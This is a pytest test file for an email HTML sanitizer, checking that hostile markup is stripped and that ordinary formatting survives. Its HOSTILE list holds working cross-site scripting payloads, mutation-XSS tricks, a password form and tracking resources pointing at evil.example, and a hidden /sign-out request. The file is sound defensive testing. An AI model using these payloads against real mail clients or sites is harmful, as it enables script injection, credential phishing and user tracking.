"""Nothing in a mail runs, fetches, submits or leaves its frame."""

from __future__ import annotations

import pytest

from app.web.safe_html import clean

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" \tjava\nscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<iframe src='https://evil.example'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action='https://evil.example'><input name=password><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'; * { position: fixed }</style>",
    "<video src='https://evil.example/x' autoplay></video>",
    "<details ontoggle=alert(1) open>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div style='position:fixed;inset:0;z-index:9'>cover</div>",
    "<div style='background:u\\72l(https://evil.example/x)'>x</div>",
    "<table background='https://evil.example/x'><tr><td>x</table>",
    "<img srcset='https://evil.example/x 2x'>",
    "<img src='/sign-out'><img src='//evil.example/x'><img src='http://evil.example/x'>",
    "<a href='/sign-out' ping='https://evil.example'>x</a>",
    "<x-y contenteditable autofocus onfocus=alert(1)>",
]


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_is_harmless(html: str) -> None:
    safe = clean(html, inline_images={}, remote_images=False).lower()
    for word in ("<script", "javascript:", "evil.example", "<form", "<input", "<iframe", "<svg", "<style", "position"):
        assert word not in safe, safe
    for word in (" onerror", " onload", " ontoggle", " onfocus", "url(", "srcset", "/sign-out", "<base", "<meta"):
        assert word not in safe, safe


def test_a_deep_nest_does_not_stop_anything() -> None:
    assert "x" in clean("<div>" * 5000 + "x", inline_images={}, remote_images=False)


def test_remote_images_come_only_when_asked_for() -> None:
    html = '<img src="https://shop.example/logo.png" alt="logo">'
    assert "shop.example" not in clean(html, inline_images={}, remote_images=False)
    assert "shop.example" in clean(html, inline_images={}, remote_images=True)


def test_inline_images_come_from_their_attachment() -> None:
    html = '<img src="cid:pic@x"><img src="cid:other@x">'
    safe = clean(html, inline_images={"pic@x": "/attachments/7"}, remote_images=False)
    assert safe == '<img src="/attachments/7"><img>'


def test_links_open_elsewhere_and_tell_nobody_where_from() -> None:
    safe = clean('<a href="https://shop.example/">x</a>', inline_images={}, remote_images=False)
    assert 'rel="noopener noreferrer"' in safe
    assert 'target="_blank"' in safe


def test_ordinary_looks_are_kept() -> None:
    html = '<table width="600" bgcolor="#eee"><tr><td style="color:red;padding:4px"><b>Sale</b></td></tr></table>'
    safe = clean(html, inline_images={}, remote_images=False)
    assert 'bgcolor="#eee"' in safe
    assert "color:red" in safe
